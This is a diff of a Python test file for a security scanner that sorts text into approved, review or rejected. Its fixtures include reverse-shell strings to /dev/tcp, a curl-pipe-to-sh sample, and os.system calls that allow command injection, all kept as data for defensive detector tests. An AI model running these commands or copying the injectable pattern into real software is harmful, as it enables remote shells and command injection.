@@ -218,9 +218,6 @@ INJECTION_FROM_NAMES = [
 ]
 
 
-@pytest.mark.xfail(
-    reason="issue 13: shell strings built from listed file names, next commit", strict=True
-)
 @pytest.mark.parametrize("text", INJECTION_FROM_NAMES)
 def test_shell_with_file_names_is_not_approved(inspector: Inspector, text: str) -> None:
     decision, fired = _scan(inspector, text, Source.DOCUMENT)
@@ -231,9 +228,11 @@ def test_shell_with_file_names_is_not_approved(inspector: Inspector, text: str) 
 # --- benign look-alikes: a fix beside its bug, a scanner fixture ----------------
 PENDING_LOOKALIKES = [
     "Review note.\nVulnerable:\n    os.system('tar xf ' + upload_name)\nFixed:\n    subprocess.run(['tar', 'xf', upload_name], check=True)\nThe name comes from the client, so the first form lets it inject commands.",
-    "# unit test for our detector; the payload is data, never run\nREVERSE = 'sh -i >& /dev/tcp/192.0.2.9/9001 0>&1'\nassert detector.flags(REVERSE)",
 ]
 LOOKALIKES = [
+    "# unit test for our detector; the payload is data, never run\nREVERSE = 'sh -i >& /dev/tcp/192.0.2.9/9001 0>&1'\nassert detector.flags(REVERSE)",
+    "```python\n# Before:\nos.system('tar xf ' + upload_name)\n# After:\nsubprocess.run(['tar', 'xf', upload_name], check=True)\n```",
+    "```js\nconst SAMPLE = \"curl -s https://203.0.113.5/x | sh\";\nexpect(classify(SAMPLE)).toBe('remote-install');\n```",
     '<script src="https://cdn.jsdelivr.net/npm/bootstrap@5.3.3/dist/js/bootstrap.bundle.min.js" integrity="sha384-YvpcrYf0tY3lHB60NNkmXc5s9fDVZLESaAA55NDzOxhy9GkcIdslK1eN7N6jIeHz" crossorigin="anonymous"></script>',
 ]
 
@@ -245,7 +244,9 @@ def test_lookalikes_are_approved(inspector: Inspector, text: str) -> None:
 
 
 @pytest.mark.xfail(
-    reason="issue 13: quoted-bug reviews and scanner fixtures, next commit", strict=True
+    reason="a 'Vulnerable:' label in prose, the quoted line in its own code chunk: "
+    "the Python analyzer sees one chunk only",
+    strict=True,
 )
 @pytest.mark.parametrize("text", PENDING_LOOKALIKES)
 def test_pending_lookalikes_are_approved(inspector: Inspector, text: str) -> None:
@@ -258,6 +259,25 @@ def test_external_script_without_integrity_goes_to_review(inspector: Inspector) 
     decision, fired = _scan(inspector, text, Source.DOCUMENT)
     assert fired
     assert decision is Decision.REVIEW
+
+
+def test_a_sample_that_is_run_is_still_rejected(inspector: Inspector) -> None:
+    text = "SAMPLE = 'sh -i >& /dev/tcp/192.0.2.9/9001 0>&1'\nsubprocess.run(SAMPLE, shell=True)"
+    decision, fired = _scan(inspector, text, Source.DOCUMENT)
+    assert fired
+    assert decision is Decision.REJECT
+
+
+def test_a_lone_payload_literal_is_still_rejected(inspector: Inspector) -> None:
+    text = "PAYLOAD = 'bash -i >& /dev/tcp/192.0.2.9/9001 0>&1'"
+    decision, _ = _scan(inspector, text, Source.DOCUMENT)
+    assert decision is Decision.REJECT
+
+
+def test_a_fix_without_its_quoted_bug_is_judged(inspector: Inspector) -> None:
+    text = "```python\n# Before:\nos.system('tar xf ' + request.args['f'])\nprint('done')\n```"
+    decision, _ = _scan(inspector, text, Source.DOCUMENT)
+    assert decision is not Decision.APPROVE
 
 
 def test_inline_script_that_reads_cookies_is_rejected(inspector: Inspector) -> None:
